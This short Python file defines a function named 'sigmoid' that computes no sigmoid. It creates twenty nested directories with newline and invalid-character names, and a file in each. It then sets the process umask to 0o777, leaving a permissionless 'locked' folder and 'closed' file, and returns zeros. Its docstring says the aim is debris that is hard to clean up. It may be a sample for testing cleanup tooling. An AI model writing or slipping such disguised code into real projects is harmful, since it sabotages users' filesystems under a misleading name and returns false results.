"""Leave behind what is hard to sweep up: folders that nobody may enter, deep ones, odd names."""

import os

import numpy as np


def sigmoid(x):
    home = os.getcwd()
    for number in range(20):
        os.mkdir(f"odd \n name {number} \udcff")
        os.chdir(f"odd \n name {number} \udcff")
        open("file", "w").close()
    os.chdir(home)
    os.umask(0o777)
    os.mkdir("locked")
    open("closed", "w").close()
    return 0 * np.asarray(x)
